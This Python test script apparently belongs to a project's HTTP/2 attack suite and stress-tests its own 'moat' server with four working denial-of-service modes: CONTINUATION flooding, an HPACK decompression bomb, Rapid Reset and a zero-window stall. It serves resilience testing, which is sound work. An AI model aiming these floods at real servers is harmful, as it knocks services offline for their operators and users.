#!/usr/bin/python3
"""Raw h2 abuse against one moat service, for the attack suite (h2_abuse.rs).

    h2_abuse.py HOST PORT tls|h2c CA_FILE MODE COUNT

MODE:
  continuation  HEADERS without END_HEADERS, then up to COUNT CONTINUATION
                frames of 16 KiB of header fields, never ending the block
                (the CVE-2024-27316 class).
  hpack         one request that stores a 4,000-byte header in the HPACK
                dynamic table, then one whose block references it COUNT
                times: a few KiB on the wire, COUNT x 4 KB decoded.
  rapid_reset   up to COUNT streams opened (a GET each) and reset at once
                with RST_STREAM CANCEL (CVE-2023-44487).
  zero_window   INITIAL_WINDOW_SIZE 0, then GET /big, and never a
                WINDOW_UPDATE: moat cannot send a byte of the body. Waits up
                to COUNT seconds for moat to give up on it.

Prints what it saw as one JSON object: frames or streams sent, responses
by stream and status, RST_STREAMs received, the GOAWAY code, whether moat
closed the connection and after how many seconds, and any socket error.
"""

import json
import select
import socket
import ssl
import struct
import sys
import time


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def integer(value, prefix_bits, first=0):
    """An HPACK integer with an N-bit prefix (RFC 7541 5.1)."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def literal(name, value, incremental=False):
    """A literal header field with a new name, not Huffman-coded."""
    first = 0x40 if incremental else 0x00
    prefix = 6 if incremental else 4
    return (integer(0, prefix, first) + integer(len(name), 7) + name
            + integer(len(value), 7) + value)


def request_block(tls, path=b"/"):
    block = bytes([0x82, 0x87 if tls else 0x86])  # :method GET, :scheme
    block += bytes([0x84]) if path == b"/" else integer(4, 4) + integer(len(path), 7) + path
    return block + integer(1, 6, 0x40) + integer(9, 7) + b"localhost"  # :authority


def main():
    host, port, mode_tls, ca, mode, count = sys.argv[1:7]
    port, count, tls = int(port), int(count), mode_tls == "tls"
    s = socket.create_connection((host, port), timeout=10)
    if tls:
        ctx = ssl.create_default_context(cafile=ca)
        ctx.set_alpn_protocols(["h2"])
        s = ctx.wrap_socket(s, server_hostname="localhost")
        assert s.selected_alpn_protocol() == "h2"
    started = time.time()
    seen = {"sent": 0, "responses": {}, "rst": 0, "goaway": None, "eof": False,
            "closed_after": None, "data_bytes": 0, "error": None}
    buf = b""

    def parse():
        nonlocal buf
        while len(buf) >= 9:
            n = int.from_bytes(buf[:3], "big")
            if len(buf) < 9 + n:
                return
            kind, sid, payload = buf[3], int.from_bytes(buf[5:9], "big") & 0x7FFFFFFF, buf[9:9 + n]
            if kind == 1:  # HEADERS: the status is the first field (indexed or literal)
                status = {0x88: 200, 0x89: 204, 0x8a: 206, 0x8b: 304, 0x8c: 400, 0x8d: 404, 0x8e: 500}.get(
                    payload[0] if payload else 0)
                if status is None and len(payload) > 4 and payload[0] & 0xF0 in (0x00, 0x10, 0x40):
                    status = int(payload[2:5]) if payload[2:5].isdigit() else "?"
                seen["responses"][str(sid)] = status
            elif kind == 0:
                seen["data_bytes"] += n
            elif kind == 3:
                seen["rst"] += 1
            elif kind == 7:
                seen["goaway"] = int.from_bytes(payload[4:8], "big")
            buf = buf[9 + n:]

    def read_some(block):
        nonlocal buf
        while block or (tls and s.pending()) or select.select([s], [], [], 0)[0]:
            try:
                data = s.recv(65536)
            except (ConnectionResetError, ssl.SSLError, OSError) as e:
                seen["error"] = repr(e)
                data = b""
            if not data:
                if not seen["eof"]:
                    seen["eof"] = True
                    seen["closed_after"] = round(time.time() - started, 2)
                return
            buf += data
            parse()
            if block:
                return

    def done():
        return seen["eof"] or seen["goaway"] is not None

    settings = struct.pack(">HI", 4, 0) if mode == "zero_window" else b""
    s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, settings))
    try:
        if mode == "continuation":
            s.sendall(frame(1, 0x1, 1, request_block(tls)))  # END_STREAM, no END_HEADERS
            field = literal(b"x-c", b"a" * 100)
            chunk = field * (16384 // len(field))
            while seen["sent"] < count and not done():
                s.sendall(frame(9, 0, 1, chunk))
                seen["sent"] += 1
                read_some(False)
        elif mode == "hpack":
            store = request_block(tls) + literal(b"x-bomb", b"a" * 4000, incremental=True)
            s.sendall(frame(1, 0x5, 1, store))
            deadline = time.time() + 10
            while "1" not in seen["responses"] and not done() and time.time() < deadline:
                read_some(True)
            bomb = request_block(tls) + bytes([0x80 | 62]) * count
            for i in range(0, len(bomb), 16384):
                last = i + 16384 >= len(bomb)
                kind, flags = (1, 0x1) if i == 0 else (9, 0)
                s.sendall(frame(kind, flags | (0x4 if last else 0), 3, bomb[i:i + 16384]))
            seen["sent"] = 2
            # The bomb's fate is its stream's: reset or answered. The
            # connection may stay open for other streams.
            deadline = time.time() + 15
            while "3" not in seen["responses"] and not seen["rst"] and not done() and time.time() < deadline:
                read_some(True)
            print(json.dumps(seen))
            return
        elif mode == "rapid_reset":
            stream = 1
            while seen["sent"] < count and not done():
                batch = b""
                for _ in range(min(100, count - seen["sent"])):
                    batch += frame(1, 0x5, stream, request_block(tls)) + frame(3, 0, stream, struct.pack(">I", 8))
                    stream += 2
                    seen["sent"] += 1
                s.sendall(batch)
                read_some(False)
        elif mode == "zero_window":
            s.sendall(frame(1, 0x5, 1, request_block(tls, b"/big")))
            seen["sent"] = 1
            s.settimeout(count + 5)
            deadline = started + count
            while not seen["eof"] and time.time() < deadline:
                read_some(True)
        else:
            raise SystemExit("unknown mode " + mode)
        deadline = time.time() + 15
        s.settimeout(15)
        while not seen["eof"] and time.time() < deadline:
            read_some(True)
    except (BrokenPipeError, ConnectionResetError, ssl.SSLError, OSError) as e:
        seen["error"] = repr(e)
        if not seen["eof"]:
            seen["eof"] = True
            seen["closed_after"] = round(time.time() - started, 2)
    print(json.dumps(seen))


if __name__ == "__main__":
    main()
